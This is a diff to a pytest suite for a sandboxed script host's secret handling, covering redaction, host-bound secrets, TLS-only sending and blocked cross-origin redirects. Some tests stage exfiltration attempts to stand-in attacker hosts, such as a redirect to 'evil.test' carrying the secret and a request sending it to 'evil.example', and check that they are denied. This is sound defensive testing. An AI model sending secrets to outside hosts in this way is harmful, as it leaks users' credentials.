@@ -20,6 +20,7 @@ from moonbox.errors import ArgumentError, Denied, Frame, ScriptError, ToolError
 from moonbox.scripts.hostapi import HostApi, HttpOptions
 from moonbox.secrets import SecretRedactor
 from moonbox.values import pack
+from tests.hostapi.conftest import refused
 from tests.loopback_servers import Answer, Request, Server
 
 if TYPE_CHECKING:
@@ -36,8 +37,18 @@ def api_for(make_api: MakeApi, server: Server, **grants: Any) -> HostApi:
     return make_api({"http": [server.grant], "secrets": ["KEY"], **grants}, environ={"KEY": PLAIN})
 
 
-def test_a_handle_says_nothing_about_the_value(make_api: MakeApi) -> None:
-    api = make_api({"secrets": ["KEY"]}, environ={"KEY": PLAIN})
+@pytest.fixture
+def api(make_api: MakeApi) -> HostApi:
+    """It has the secret, and nothing else."""
+    return make_api({"secrets": ["KEY"]}, environ={"KEY": PLAIN})
+
+
+def get(api: HostApi, url: str, **headers: Any) -> Any:
+    """A request with the secret in a header, and in others that are given."""
+    return api.call("http.get", [f"{url}/", {"headers": {"X-Key": api.call("secret", ["KEY"]), **headers}}])
+
+
+def test_a_handle_says_nothing_about_the_value(api: HostApi, make_api: MakeApi) -> None:
     handle = api.call("secret", ["KEY"])
     assert list(handle) == ["$secret"]
     assert len(handle["$secret"]) == 32
@@ -63,7 +74,7 @@ def test_a_variable_of_env_can_be_read_and_used_as_a_secret(serve: Serve, make_a
     server = serve({"/": lambda _: Answer()})
     api = make_api({"http": [server.grant], "env": ["KEY"]}, environ={"KEY": PLAIN + "\n"})
     assert api.call("env.get", ["KEY"]) == PLAIN + "\n"
-    api.call("http.get", [f"{server.url}/", {"headers": {"X-Key": api.call("secret", ["KEY"])}}])
+    get(api, server.url)
     assert server.requests[0].headers["x-key"] == PLAIN
     # Once it is used as a secret, it is one.
     assert api.call("env.get", ["KEY"]) == "[secret KEY]\n"
@@ -78,9 +89,8 @@ def test_a_variable_of_env_can_be_read_and_used_as_a_secret(serve: Serve, make_a
     ],
 )
 def test_a_secret_that_is_not_granted(make_api: MakeApi, grants: dict[str, Any], advice: str) -> None:
-    with pytest.raises(Denied) as caught:
-        make_api(grants, environ={"KEY": PLAIN}).call("secret", ["KEY"])
-    assert str(caught.value) == f"the secret KEY is not granted; {advice}"
+    error = refused(make_api(grants, environ={"KEY": PLAIN}), "secret", "KEY")
+    assert (type(error), str(error)) == (Denied, f"the secret KEY is not granted; {advice}")
 
 
 ECHOES: dict[str, Callable[[str], bytes]] = {
@@ -112,11 +122,9 @@ def test_an_echo_in_the_body_is_redacted(
     spelled = echo(secret)
     server = serve({"/": lambda _: Answer(body=b"before " + spelled + b" after")})
     api = make_api({"http": [server.grant], "secrets": ["KEY"]}, environ={"KEY": secret})
-    body = api.call("http.get", [f"{server.url}/", {"headers": {"X-Key": api.call("secret", ["KEY"])}}])["body"]
+    body = get(api, server.url)["body"]
     data = body if isinstance(body, bytes) else body.encode()
-    assert b"[secret KEY]" in data
-    assert data.startswith(b"before ")
-    assert data.endswith(b" after")
+    assert data.startswith(b"before ") and b"[secret KEY]" in data and data.endswith(b" after")
     for start in range(len(spelled) - 8):  # nothing of it is left, at no place
         assert spelled[start : start + 8] not in data
 
@@ -131,7 +139,7 @@ def test_an_echo_in_headers_status_url_and_json_is_redacted(serve: Serve, make_a
 
     server = serve({"/": echo})
     api = api_for(make_api, server)
-    answer = api.call("http.get", [f"{server.url}/", {"headers": {"X-Key": api.call("secret", ["KEY"])}}])
+    answer = get(api, server.url)
     assert answer["json"] == {
         "direct": "[secret KEY]",
         "[secret KEY]": [1],
@@ -154,14 +162,13 @@ def test_a_secret_of_digits_is_redacted_from_numbers(serve: Serve, make_api: Mak
 def test_an_echo_in_an_error_is_redacted(serve: Serve, make_api: MakeApi) -> None:
     server = serve({"/": lambda request: Answer.redirect(f"https://evil.test/{request.headers['x-key']}")})
     api = api_for(make_api, server, http=[server.grant, "127.0.0.1"])
-    options = {"headers": {"X-Key": api.call("secret", ["KEY"])}}
     with pytest.raises(Denied) as denied:
-        api.call("http.get", [f"{server.url}/", options])
+        get(api, server.url)
     assert PLAIN not in str(denied.value)
     bad = serve({"/": lambda request: Answer.redirect(f"ftp://{request.headers['x-key']}/")})
     api = api_for(make_api, bad)
     with pytest.raises(ToolError) as caught:
-        api.call("http.get", [f"{bad.url}/", {"headers": {"X-Key": api.call("secret", ["KEY"])}}])
+        get(api, bad.url)
     assert "[secret KEY]" in str(caught.value)
     assert PLAIN not in f"{caught.value!r} {caught.value.args} {caught.value.message}"
 
@@ -171,7 +178,7 @@ def test_a_redirect_to_another_origin_gets_no_secret(serve: Serve, make_api: Mak
     server = serve({"/": lambda _: Answer.redirect(f"{other.url}/"), "/same": lambda _: Answer.redirect("/there")})
     api = api_for(make_api, server, http=[server.grant, other.grant])
     key = api.call("secret", ["KEY"])
-    api.call("http.get", [f"{server.url}/", {"headers": {"Accept-Language": key, "X-Key": key, "Accept": key}}])
+    get(api, server.url, **{"Accept-Language": key, "Accept": key})
     assert PLAIN not in repr(other.requests[0])
     api.call("http.get", [f"{server.url}/same", {"headers": {"X-Key": key}}])
     assert server.requests[-1].headers["x-key"] == PLAIN
@@ -181,10 +188,9 @@ def test_a_secret_goes_only_to_the_hosts_it_is_bound_to(serve: Serve, make_api: 
     mine, other = serve({"/": lambda _: Answer()}), serve({"/": lambda _: Answer()})
     grants = {"http": [mine.grant, other.grant], "secrets": {"KEY": [mine.grant]}}
     api = make_api(grants, environ={"KEY": PLAIN})
-    options = {"headers": {"X-Key": api.call("secret", ["KEY"])}}
-    assert api.call("http.get", [f"{mine.url}/", options])["ok"]
+    assert get(api, mine.url)["ok"]
     with pytest.raises(Denied) as caught:
-        api.call("http.get", [f"{other.url}/", options])
+        get(api, other.url)
     assert str(caught.value) == (
         f"the secret KEY may not be sent to {other.grant}; "
         f'add secrets = {{ KEY = ["{other.grant}"] }} under [tools.script.weather]'
@@ -194,9 +200,8 @@ def test_a_secret_goes_only_to_the_hosts_it_is_bound_to(serve: Serve, make_api: 
 
 def test_the_whole_web_is_no_place_for_a_secret(make_api: MakeApi) -> None:
     api = make_api({"http": ["*"], "secrets": ["KEY"]}, environ={"KEY": PLAIN})
-    options = {"headers": {"X-Key": api.call("secret", ["KEY"])}}
     with pytest.raises(Denied, match=r"the secret KEY may not be sent to evil\.example"):
-        api.call("http.get", ["https://evil.example/", options])
+        get(api, "https://evil.example")
 
 
 def test_secrets_go_over_tls_except_to_local_addresses(serve: Serve, make_api: MakeApi) -> None:
@@ -209,10 +214,9 @@ def test_secrets_go_over_tls_except_to_local_addresses(serve: Serve, make_api: M
     http = HttpOptions(resolver=lambda *_: ["127.0.0.1"], ssl_context=trusting)
     grants = {"http": [*names, plain.grant, secure.grant], "secrets": ["KEY"]}
     api = make_api(grants, environ={"KEY": PLAIN}, http=http)
-    options = {"headers": {"X-Key": api.call("secret", ["KEY"])}}
-    assert api.call("http.get", [f"https://api.test:{secure.port}/", options])["ok"]
+    assert get(api, f"https://api.test:{secure.port}")["ok"]
     with pytest.raises(Denied) as caught:
-        api.call("http.get", [f"http://api.test:{plain.port}/", options])
+        get(api, f"http://api.test:{plain.port}")
     assert str(caught.value) == "the secret KEY is sent over https only, not to http://api.test"
     assert plain.requests == []
 
@@ -262,14 +266,12 @@ def test_handles_are_values_of_no_other_function(make_api: MakeApi) -> None:
         assert PLAIN not in str(given)
 
 
-def test_a_secret_signs(make_api: MakeApi) -> None:
-    api = make_api({"secrets": ["KEY"]}, environ={"KEY": PLAIN})
+def test_a_secret_signs(api: HostApi) -> None:
     expected = hmac.new(PLAIN.encode(), b"message", hashlib.sha256).hexdigest()
     assert api.call("crypto.hmac_sha256", [api.call("secret", ["KEY"]), "message"]) == expected
 
 
-def test_logs_hold_no_secret(make_api: MakeApi, caplog: pytest.LogCaptureFixture) -> None:
-    api = make_api({"secrets": ["KEY"]}, environ={"KEY": PLAIN})
+def test_logs_hold_no_secret(api: HostApi, caplog: pytest.LogCaptureFixture) -> None:
     with caplog.at_level(logging.DEBUG, "moonbox.script.weather"):
         api.call("log.warn", [f"the key is {PLAIN}", {"deep": [{PLAIN: base64.b64encode(PLAIN.encode()).decode()}]}])
         api.call("log.info", ["used", {"key": api.call("secret", ["KEY"])}])
@@ -283,16 +285,14 @@ def test_files_that_hold_the_secret_are_redacted(make_api: MakeApi, tmp_path: An
     assert api.call("fs.read", ["notes.txt"]) == "key=[secret KEY]\n"
 
 
-def test_redaction_cleans_what_a_run_gives_back(make_api: MakeApi) -> None:
-    api = make_api({"secrets": ["KEY"]}, environ={"KEY": PLAIN})
+def test_redaction_cleans_what_a_run_gives_back(api: HostApi) -> None:
     value = {"a": [1, None, True, 2.5, PLAIN.encode(), {"b": PLAIN}]}
     assert api.redact(value) == {"a": [1, None, True, 2.5, b"[secret KEY]", {"b": "[secret KEY]"}]}
     untouched = {"a": ["x", {"y": b"z"}]}
     assert api.redact(untouched) is untouched
 
 
-def test_redact_run_cleans_the_whole_record(make_api: MakeApi) -> None:
-    api = make_api({"secrets": ["KEY"]}, environ={"KEY": PLAIN})
+def test_redact_run_cleans_the_whole_record(api: HostApi, make_api: MakeApi) -> None:
     failed = CallError("x", f"no {PLAIN}", data={"k": PLAIN}, detail=f"Traceback {PLAIN}")
     run = Run(
         "1",
